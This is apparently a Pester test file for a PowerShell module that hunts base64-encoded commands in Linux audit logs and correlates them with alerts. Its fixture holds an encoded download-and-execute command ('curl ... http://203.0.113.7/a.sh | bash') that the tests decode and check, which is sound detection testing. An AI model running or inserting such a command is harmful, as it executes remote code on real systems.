# Issue 19: what a Sentinel hunter who lives in pwsh expects at the prompt and in runbooks.
BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force
    $script:Work = Join-Path ([System.IO.Path]::GetTempPath()) ("b64prompt-" + [guid]::NewGuid())
    New-Item -ItemType Directory -Path $Work | Out-Null
    $script:Payload = 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash'
}
AfterAll { Remove-Item -Recurse -Force $Work -ErrorAction SilentlyContinue }

Describe 'KQL-style spans' {
    It 'reads 7d, 12h, 30m and 45s as days, hours, minutes and seconds' {
        $cmd = Get-Command Measure-B64Score
        $attr = $cmd.Parameters['AlertWindow'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
        $attr | Should -Not -BeNullOrEmpty
        foreach ($case in @(@('7d', [timespan]::FromDays(7)), @('12h', [timespan]::FromHours(12)), @('30m', [timespan]::FromMinutes(30)), @('45s', [timespan]::FromSeconds(45)), @('1.00:00:00', [timespan]::FromDays(1)))) {
            $attr.Transform($ExecutionContext, $case[0]) | Should -Be $case[1]
        }
    }

    It 'scores with -AlertWindow 30m as with a 30-minute TimeSpan' {
        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = [datetime]'2024-05-01T10:00:00Z' }
        $near = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'near'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T10:20:00Z' }
        $far = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'far'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T11:00:00Z' }
        ($e | Measure-B64Score -Alert $near, $far -AlertWindow 30m).AlertScore | Should -Be 3
        ($e | Measure-B64Score -Alert $near, $far -AlertWindow ([timespan]::FromMinutes(30))).AlertScore | Should -Be 3
        ($e | Measure-B64Score -Alert $near, $far -AlertWindow 2h).AlertScore | Should -Be 6
    }

    It 'refuses a bare number (ticks) and a span under a second, naming the fix' {
        { 'id' | Measure-B64Score -AlertWindow 1 -ErrorAction Stop } | Should -Throw -ExpectedMessage '*no unit*7d, 12h*'
        { 'id' | Measure-B64Score -AlertWindow ([timespan]::FromMilliseconds(5)) -ErrorAction Stop } | Should -Throw -ExpectedMessage '*under a second*'
        { Get-B64RelatedAlert -Sample -Last 7 -ErrorAction Stop } | Should -Throw -ExpectedMessage '*no unit*'
        { Get-B64RelatedAlert -Sample -Last '7x' -ErrorAction Stop } | Should -Throw -ExpectedMessage "*Cannot read '7x'*"
    }

    It 'reads unquoted 7d and 30s (PowerShell number literals: decimal 7, short 30) as days and seconds' {
        $attr = (Get-Command Get-B64RelatedAlert).Parameters['Last'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
        $attr.Transform($ExecutionContext, 7d) | Should -Be ([timespan]::FromDays(7))
        $attr.Transform($ExecutionContext, 30s) | Should -Be ([timespan]::FromSeconds(30))
        { $attr.Transform($ExecutionContext, 7) } | Should -Throw -ExpectedMessage '*no unit*'
        { $attr.Transform($ExecutionContext, 7l) } | Should -Throw -ExpectedMessage '*no unit*'
    }

    It 'accepts zero, which Measure-B64Score reads as the same instant' {
        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = [datetime]'2024-05-01T10:00:00Z' }
        $near = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'near'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T10:20:00Z' }
        ($e | Measure-B64Score -Alert $near -AlertWindow 0 -ErrorAction Stop).AlertScore | Should -Be 0
    }

    It 'takes -Last 7d on Get-B64RelatedAlert and -CacheTtl 6h on Invoke-B64TiLookup' {
        (Get-Command Get-B64RelatedAlert).Parameters['Last'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
        (Get-Command Get-B64Command).Parameters['Last'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
        (Get-Command Invoke-B64TiLookup).Parameters['CacheTtl'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
        @(Get-B64Command -Sample | Get-B64RelatedAlert -Sample -Last 3650d).Count | Should -BeGreaterThan 0
    }
}

Describe 'A malformed record does not stop a runbook' {
    It 'under $ErrorActionPreference = Stop reads the whole sample and warns with the id and file:line' {
        $ErrorActionPreference = 'Stop'
        $events = Get-B64Command -Sample -WarningVariable warned -WarningAction SilentlyContinue
        $ErrorActionPreference = 'Continue'
        $all = Get-B64Command -Sample -ErrorAction SilentlyContinue -ErrorVariable errs
        $events.Count | Should -Be $all.Count
        $errs.FullyQualifiedErrorId | Should -Contain 'MalformedAuomsRecord,B64Hunt.Commands.GetB64CommandCommand'
        $warned | Where-Object { "$_" -match '^MalformedAuomsRecord: .*auoms-syslog\.log:\d+' } | Should -Not -BeNullOrEmpty
    }

    It 'stays an error the user opts into with -ErrorAction Stop on the call' {
        $ErrorActionPreference = 'Stop'
        { Get-B64Command -Sample -ErrorAction Stop } | Should -Throw -ErrorId 'MalformedAuomsRecord*'
    }

    It 'keeps errors that lose data (a missing file) as errors under Stop' {
        $ErrorActionPreference = 'Stop'
        { Get-B64Command -Path (Join-Path $Work 'missing.log') } | Should -Throw -ErrorId 'PathNotFound*'
    }
}

Describe 'Get-B64RelatedAlert -Path and -LiteralPath' {
    BeforeAll {
        $script:AlertDir = Join-Path $Work 'alerts'
        New-Item -ItemType Directory -Path $AlertDir | Out-Null
        $sample = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/alerts.csv'
        $script:Bracketed = Join-Path $AlertDir 'alerts[1].csv'
        Copy-Item -LiteralPath $sample -Destination $Bracketed
        New-Item -ItemType Directory -Path (Join-Path $AlertDir 'sub') | Out-Null
    }

    It 'reports a path or pattern that matches nothing as PathNotFound' {
        Get-B64RelatedAlert -Path (Join-Path $AlertDir 'nothing*.csv') -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
        $err[0].TargetObject | Should -BeLike '*nothing`*.csv'
        $err[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
    }

    It 'reads a bracketed name with -LiteralPath, as many alerts as -Sample' {
        $literal = Get-B64RelatedAlert -LiteralPath $Bracketed
        $literal.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
        $literal.Count | Should -BeGreaterThan 0
        Get-B64RelatedAlert -LiteralPath (Join-Path $AlertDir 'alerts[2].csv') -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
    }

    It 'skips the directories a wildcard matches, reading the files' {
        $alerts = Get-B64RelatedAlert -Path (Join-Path $AlertDir '*') -ErrorVariable err -ErrorAction SilentlyContinue
        $err | Should -BeNullOrEmpty
        $alerts.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
    }
}

Describe 'Get-B64Command and directories' {
    It 'skips the directories Get-ChildItem -Recurse pipes, as Select-String does, and reads the files' {
        $logs = Join-Path $Work 'logs'
        New-Item -ItemType Directory -Path (Join-Path $logs 'a/b') -Force | Out-Null
        Set-Content -LiteralPath (Join-Path $logs 'a/b/cmd.csv') -Value @('CommandLine,Computer', "`"$Payload`",web1")
        $events = Get-ChildItem $logs -Recurse | Get-B64Command -ErrorVariable err -ErrorAction SilentlyContinue
        $err | Should -BeNullOrEmpty
        $events.DecodedCommand | Should -Be 'curl -s http://203.0.113.7/a.sh | bash'
    }

    It 'still reports a directory named on its own and a missing file' {
        Get-B64Command -Path $Work -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
        $err.FullyQualifiedErrorId | Should -Be 'PathIsDirectory,B64Hunt.Commands.GetB64CommandCommand'
        Get-B64Command -LiteralPath (Join-Path $Work 'none.log') -ErrorVariable err2 -ErrorAction SilentlyContinue
        $err2.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64CommandCommand'
    }
}

Describe 'A file in no known format is said so' {
    BeforeAll {
        $script:Sample = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/auoms-syslog.log'
        $script:Elf = Join-Path $Work 'tool.bin'
        $bytes = [byte[]]::new(4096); [System.Random]::new(19).NextBytes($bytes)
        $bytes[0] = 0x7f; $bytes[1] = [byte][char]'E'; $bytes[2] = [byte][char]'L'; $bytes[3] = [byte][char]'F'
        [System.IO.File]::WriteAllBytes($Elf, $bytes)
        $script:Prose = Join-Path $Work 'notes.txt'
        Set-Content -LiteralPath $Prose -Value @('The quick brown fox jumps over the lazy dog.', 'Meeting notes: rotate the keys on Friday.')
    }

    It 'warns FormatNotRecognized with the path for an ELF binary and for prose' {
        foreach ($file in $Elf, $Prose) {
            Get-B64Command -Path $file -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
            @($w | Where-Object { "$_" -like "FormatNotRecognized: $file*-Format*" }).Count | Should -Be 1
        }
    }

    It 'does not warn for AUOMS syslog whose commands carry no payload, nor for the sample' {
        $clean = Join-Path $Work 'clean.log'
        Get-Content -LiteralPath $Sample | Where-Object { $_ -like '*AUOMS_EXECVE*' -and $_ -notlike '*base64*' } | Select-Object -First 20 | Set-Content -LiteralPath $clean
        Get-B64Command -Path $clean -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
        $w | Should -BeNullOrEmpty
        $null = Get-B64Command -Sample -WarningVariable w2 -WarningAction SilentlyContinue -ErrorAction SilentlyContinue
        $w2 | Where-Object { "$_" -like 'FormatNotRecognized*' } | Should -BeNullOrEmpty
    }

    It 'does not warn for an empty file or when -Format is forced' {
        $empty = Join-Path $Work 'empty.log'; Set-Content -LiteralPath $empty -Value $null
        Get-B64Command -Path $empty -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
        Get-B64Command -Path $Prose -Format AuomsSyslog -WarningVariable w3 -WarningAction SilentlyContinue | Should -BeNullOrEmpty
        @($w) + @($w3) | Where-Object { "$_" -like 'FormatNotRecognized*' } | Should -BeNullOrEmpty
    }
}
